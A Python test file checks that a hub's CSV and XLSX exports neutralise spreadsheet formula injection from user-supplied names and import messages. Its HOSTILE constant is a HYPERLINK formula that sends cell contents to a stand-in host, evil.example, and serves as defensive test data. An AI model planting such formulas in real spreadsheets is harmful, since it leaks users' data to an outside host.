"""Text from user data never runs as a formula in a CSV or XLSX the hub writes."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from enrollment.imports.api import JOBS
from enrollment.tables import ImportIssue
from hub_shared.import_jobs.issues_csv import issue_lines
from hub_shared.spreadsheets import FORMULA_STARTS, neutral, neutralise_workbook
from hub_shared.storage.db import create_tables, make_engine, make_sessions, table_of
from incidents.reports.advice import Employer, floating_rate_report, to_csv
from incidents.reports.key_industries import EnrollmentFact

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_an_apostrophe_in_csv(start: str) -> None:
    assert neutral(f"{start}1+2") == f"'{start}1+2"


def test_ordinary_text_and_numbers_stay_as_they_are() -> None:
    assert [neutral("济宁建筑"), neutral(-3), neutral(1.5), neutral("")] == [
        "济宁建筑",
        -3,
        1.5,
        "",
    ]


def test_the_floating_rates_csv_neutralises_enterprise_names() -> None:
    report = floating_rate_report(
        division_code="370811",
        year=2021,
        as_of=date(2021, 12, 31),
        employers=[
            Employer("A", HOSTILE, "370811", "E47"),
            Employer("B", "@SUM(1)", "370811", "E47"),
        ],
        enrollments=[
            EnrollmentFact("A", "employer", 100, date(2020, 1, 1)),
            EnrollmentFact("B", "employer", 100, date(2020, 1, 1)),
        ],
        accidents=[],
    )
    lines = list(csv.DictReader(io.StringIO(to_csv(report))))

    assert [line["name"] for line in lines] == ["'" + HOSTILE, "'@SUM(1)"]


def test_xlsx_text_cells_are_stored_as_quoted_text_never_as_formulas() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = HOSTILE  # openpyxl alone stores this as a formula
    sheet["A2"] = "-1+1"
    sheet["A3"] = "济宁"
    neutralise_workbook(book)
    out = io.BytesIO()
    book.save(out)

    read = load_workbook(io.BytesIO(out.getvalue())).active
    assert read is not None
    cells = [read["A1"], read["A2"], read["A3"]]
    assert [c.data_type for c in cells] == ["s", "s", "s"]
    assert [c.value for c in cells] == [HOSTILE, "-1+1", "济宁"]
    assert [c.quotePrefix for c in cells] == [True, True, False]
    assert b"<f>" not in out.getvalue()


async def test_the_import_errors_csv_neutralises_what_the_file_said(tmp_path: Path) -> None:
    engine = make_engine(f"sqlite+aiosqlite:///{tmp_path / 'issues.db'}")
    await create_tables(engine, [table_of(ImportIssue)])
    sessions = make_sessions(engine)
    async with sessions() as session, session.begin():
        session.add(ImportIssue(import_id="i1", row_no=2, column_name="+name", level="error",
                                msg="-unknown value"))  # fmt: skip
    text = "".join([chunk async for chunk in issue_lines(JOBS, sessions, "i1")])
    await engine.dispose()

    assert list(csv.reader(io.StringIO(text)))[1] == ["2", "'+name", "error", "'-unknown value"]
